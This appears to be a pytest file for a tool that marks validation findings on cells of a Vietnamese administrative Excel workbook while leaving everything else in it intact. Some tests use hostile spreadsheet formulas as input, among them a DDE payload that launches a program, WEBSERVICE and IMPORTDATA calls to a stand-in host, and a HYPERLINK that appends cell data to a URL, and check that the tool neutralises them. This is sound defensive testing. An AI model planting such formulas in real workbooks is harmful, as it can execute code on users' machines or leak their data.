"""`kiem-tra.xlsx`: the clerk's workbook with each fault on its cell, and nothing else changed."""

import io
import re
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest
import python_calamine
import xlsxwriter
from lxml import etree
from openpyxl.comments import Comment
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image

from pipeline.model.findings import CellPlace, FilePlace, Finding, error, warning
from pipeline.workbook import mark
from pipeline.workbook.mark import annotated
from tests.conftest import SAMPLE

SHEET = "Đơn vị"
FAULT = error("x-loi", CellPlace(SHEET, 3, 2, "Tên"), "tên chưa đúng", "Sửa tên.")
DOUBT = warning("x-ngo", CellPlace(SHEET, 4, 5, "Số trẻ em", rows=(4, 5, 8)), "hơi nhiều", "Xem.")
Book = openpyxl.Workbook


def marked(path: Path, *findings: Finding) -> Book:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl warns of what it will not show
        return openpyxl.load_workbook(io.BytesIO(annotated(path, findings)))


@pytest.fixture
def own(tmp_path: Path) -> Path:
    """A workbook with all that a clerk may have put into it."""
    book = openpyxl.load_workbook(SAMPLE)
    sheet = book[SHEET]
    sheet["B3"].comment = Comment("Hỏi lại anh B", "Trần Thị B")
    sheet["H3"] = "=E3*2"
    sheet["H4"] = 0.25
    sheet["H4"].number_format = "0.00%"
    sheet.column_dimensions["B"].width = 47
    sheet.column_dimensions["H"].hidden = True
    sheet.add_data_validation(DataValidation("list", formula1='"a,b"', sqref="H5"))
    rule = Rule(type="cellIs", operator="greaterThan", formula=["9"])
    sheet.conditional_formatting.add("E2:E20", rule)
    sheet.merge_cells("J2:K4")
    book["Kinh phí"].sheet_state = "hidden"
    book.defined_names["vung"] = DefinedName("vung", attr_text=f"'{SHEET}'!$A$1:$B$9")
    book.active = 5
    path = tmp_path / "so.xlsx"
    book.save(path)
    return path


def test_each_fault_is_coloured_and_explained_on_its_cell() -> None:
    sheet = marked(SAMPLE, FAULT, DOUBT)[SHEET]
    assert sheet["B3"].fill.fgColor.rgb == "FFFFC7CE"
    assert "Lỗi: tên chưa đúng. Sửa tên." in sheet["B3"].comment.text
    for cell in ("E4", "E5", "E8"):
        assert sheet[cell].fill.fgColor.rgb == "FFFFEB9C"
        assert "Cảnh báo: hơi nhiều" in sheet[cell].comment.text
    assert sheet["E6"].comment is None


def test_two_faults_on_a_cell_are_both_reported() -> None:
    other = warning("y", CellPlace(SHEET, 3, 2), "hay là thế này", "")
    text = marked(SAMPLE, FAULT, other)[SHEET]["B3"].comment.text
    assert "tên chưa đúng" in text
    assert "hay là thế này" in text


def test_the_first_sheet_lists_all_findings_with_links() -> None:
    book = marked(SAMPLE, FAULT, DOUBT, error("z", FilePlace("mau.docx"), "mẫu hỏng", "Sửa mẫu."))
    sheet = book.worksheets[0]
    assert sheet.title == "Kiểm tra"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0] == ["Lỗi", "Đơn vị!B3 Tên", "tên chưa đúng", "Sửa tên.", "x-loi"]
    assert [row[4] for row in rows] == ["x-loi", "x-ngo", "z"]
    assert sheet["B2"].hyperlink.location == "'Đơn vị'!B3"
    assert sheet["B3"].hyperlink.location == "'Đơn vị'!E4"
    assert sheet["B4"].hyperlink is None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"


def test_the_copy_opens_at_the_list_of_faults_alone() -> None:
    book = marked(SAMPLE, FAULT)
    assert [sheet.sheet_view.tabSelected for sheet in book.worksheets].count(True) == 1
    assert book.active is book.worksheets[0]


def test_all_else_in_the_workbook_is_kept(own: Path) -> None:
    sheet = marked(own, FAULT)[SHEET]
    assert sheet["H3"].value == "=E3*2"
    assert (sheet["H4"].value, sheet["H4"].number_format) == (0.25, "0.00%")
    assert sheet.column_dimensions["B"].width == 47
    assert sheet.column_dimensions["H"].hidden
    assert "H5" in [str(validation.sqref) for validation in sheet.data_validations.dataValidation]
    assert any("E2:E20" in str(rule.sqref) for rule in sheet.conditional_formatting)
    assert "J2:K4" in [str(range_) for range_ in sheet.merged_cells.ranges]
    book = marked(own, FAULT)
    assert book["Kinh phí"].sheet_state == "hidden"
    assert book.defined_names["vung"].attr_text == f"'{SHEET}'!$A$1:$B$9"


def test_every_value_and_every_format_is_as_it_was() -> None:
    before, after = openpyxl.load_workbook(SAMPLE), marked(SAMPLE)
    for sheet in before.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                same = after[sheet.title][cell.coordinate]
                assert (same.value, same.number_format) == (cell.value, cell.number_format)


def test_the_clerks_own_comment_stays_on_top(own: Path) -> None:
    comment = marked(own, FAULT)[SHEET]["B3"].comment
    assert comment.text.startswith("Hỏi lại anh B\n")
    assert "tên chưa đúng" in comment.text
    assert comment.author == "Trần Thị B"


def test_a_fault_inside_a_merged_cell_is_marked_on_what_is_seen(own: Path) -> None:
    sheet = marked(own, error("x", CellPlace(SHEET, 4, 11), "sai", ""))[SHEET]
    assert "sai" in sheet["J2"].comment.text


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rich(path: Path, suffix: str = ".xlsx") -> Path:
    """A workbook as another writer makes it: pictures, charts, drop-downs, comments, macros."""
    book = xlsxwriter.Workbook(path.with_suffix(suffix))
    sheet = book.add_worksheet(SHEET)
    sheet.write_row(0, 0, ["Mã", "Tên", "Loại"])
    sheet.write_row(1, 0, ["20161", "Khe Tre", "thị trấn"])
    sheet.write_row(2, 0, ["20164", "Hương Phú", "xã"])
    sheet.write_formula("D2", "=1+1", None, 2)
    picture = io.BytesIO()
    Image.new("RGB", (20, 20), "red").save(picture, "PNG")
    sheet.insert_image("F2", "anh.png", {"image_data": picture})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": f"='{SHEET}'!$D$2:$D$3"})
    sheet.insert_chart("F8", chart)
    sheet.insert_textbox("F20", "Ghi chú của tôi")
    sheet.write_comment("A2", "Hỏi lại anh B", {"author": "Trần Thị B"})
    sheet.data_validation("C2:C9", {"validate": "list", "source": ["xã", "thị trấn"]})
    sheet.conditional_format("D2:D9", {"type": "data_bar", "data_bar_2010": True})
    other = book.add_worksheet("In")
    other.print_area("A1:C9")
    other.activate()
    book.set_custom_property("Người lập", "Trần Thị B")
    if suffix == ".xlsm":
        macro = path.with_suffix(".bin")
        macro.write_bytes(b"macro")
        book.add_vba_project(str(macro))
    book.close()
    return path.with_suffix(suffix)


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
def test_parts_that_need_not_change_are_kept_byte_for_byte(tmp_path: Path, suffix: str) -> None:
    path = rich(tmp_path / "so", suffix)
    before, after = parts(path.read_bytes()), parts(annotated(path, (FAULT,)))
    changed = {name for name in before if before[name] != after[name]}
    assert changed == {
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
        "xl/comments1.xml",
        "xl/drawings/vmlDrawing1.vml",
        "xl/styles.xml",
        "xl/workbook.xml",
        "xl/worksheets/sheet1.xml",
        "xl/worksheets/sheet2.xml",  # it was the one that is shown first
    }
    assert set(after) - set(before) == {"xl/worksheets/sheet3.xml"}
    assert b"<v>2</v>" in after["xl/worksheets/sheet1.xml"]  # the formula's stored result
    assert b"x14:" in after["xl/worksheets/sheet1.xml"]


def test_a_print_area_stays_with_its_sheet(tmp_path: Path) -> None:
    book = marked(rich(tmp_path / "so"), FAULT)
    assert book["In"].print_area == "'In'!$A$1:$C$9"
    assert not book[SHEET].print_area


def test_another_reader_opens_the_marked_copy(tmp_path: Path) -> None:
    content = annotated(rich(tmp_path / "so"), (FAULT, DOUBT))
    book = python_calamine.load_workbook(io.BytesIO(content))
    assert book.sheet_names == ["Kiểm tra", SHEET, "In"]
    assert "tên chưa đúng" in book.get_sheet_by_name("Kiểm tra").to_python()[1]


def test_the_list_is_printed_landscape_as_wide_as_the_paper() -> None:
    sheet = marked(SAMPLE, FAULT).worksheets[0]
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    setup = sheet.sheet_properties.pageSetUpPr
    assert setup is not None
    assert setup.fitToPage


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://x")', "=cmd|' /C calc'!A0", "=RTD(1)", '=DDE("a","b","c")', "=PY(1,0)",
     "='http://x/[so.xlsx]Tờ'!A1", r"='\\x\y\[so.xlsx]Tờ'!A1", '=IMPORTDATA("http://x")'],
)  # fmt: skip
def test_a_formula_that_reaches_out_leaves_its_result(tmp_path: Path, formula: str) -> None:
    path = tmp_path / "so.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet(SHEET)
    sheet.write_formula("B2", formula, None, "kết quả cũ")
    sheet.write_formula("B3", "=1+1", None, 2)
    sheet.write_formula("B4", '=HYPERLINK("http://x/"&[1]Tờ!A1,"xem")', None, "xem")
    book.close()
    found = marked(path, FAULT)[SHEET]
    assert found["B2"].value == "kết quả cũ"
    assert found["B3"].value == "=1+1"
    assert found["B4"].value.startswith("=HYPERLINK")  # it waits for a click


def test_a_formula_that_calls_a_program_is_written_as_text(own: Path) -> None:
    book = openpyxl.load_workbook(own)
    book[SHEET]["H6"] = "=cmd|' /C calc'!A0"
    book.save(own)
    cell = marked(own)[SHEET]["H6"]
    assert (cell.value, cell.data_type) == ("=cmd|' /C calc'!A0", "s")


def test_a_message_with_characters_that_xml_forbids_is_written() -> None:
    finding = error("x", CellPlace(SHEET, 3, 2), "giá trị “\x01\x0b”", "y" * 40000)
    assert "giá trị" in marked(SAMPLE, finding)[SHEET]["B3"].comment.text


def test_a_workbook_too_large_to_mark_gives_the_list(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(mark, "LARGEST", 1000)
    book = marked(SAMPLE, FAULT)
    assert book.sheetnames == ["Kiểm tra", *openpyxl.load_workbook(SAMPLE).sheetnames]
    assert book[SHEET]["B3"].comment is None
    assert book.worksheets[0]["C2"].value == "tên chưa đúng"
    assert "quá lớn" in str(book.worksheets[0]["A4"].value)


def test_formulas_that_reach_out_leave_a_workbook_too_large_to_mark(
    own: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    book = openpyxl.load_workbook(own)
    book[SHEET]["H6"], book[SHEET]["H7"] = '=WEBSERVICE("http://x")', "=1+2"
    book.save(own)
    monkeypatch.setattr(mark, "LARGEST", 1000)
    kept = marked(own)[SHEET]
    assert kept["H6"].value is None
    assert kept["H7"].value == "=1+2"


def test_the_same_findings_give_the_same_bytes_and_the_input_stays(own: Path) -> None:
    before = own.read_bytes()
    assert annotated(own, (FAULT,)) == annotated(own, (FAULT,))
    assert own.read_bytes() == before


def test_every_part_is_sound_and_every_relation_leads_somewhere(own: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(annotated(own, (FAULT, DOUBT)))) as archive:
        names = set(archive.namelist())
        for name in names:
            if name.endswith((".xml", ".rels", ".vml")):
                etree.fromstring(archive.read(name))
        relations = [name for name in names if name.endswith(".rels")]
        assert len(relations) > 2
        for name in relations:
            base = re.sub(r"_rels/[^/]*$", "", name)
            for relation in etree.fromstring(archive.read(name)):
                if relation.get("TargetMode") != "External":
                    target = relation.get("Target", "")
                    path = target.lstrip("/") if target.startswith("/") else base + target
                    assert re.sub(r"[^/]+/\.\./", "", path) in names, (name, target)


def test_of_more_cells_than_are_marked_the_first_are_and_the_list_says_so(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(mark, "MOST_MARKED", 5)
    rows = tuple(range(2, 12))
    findings = [error("a", CellPlace("Đơn vị", 2, 1, rows=rows), "sai", "Sửa.")]
    path = tmp_path / "kiem-tra.xlsx"
    path.write_bytes(mark.annotated(SAMPLE, findings))
    book = openpyxl.load_workbook(path)
    assert [row for row in rows if book["Đơn vị"].cell(row, 1).comment] == [2, 3, 4, 5, 6]
    assert any("Chỉ 5 ô đầu được đánh dấu" in str(row[0].value) for row in book["Kiểm tra"].rows)
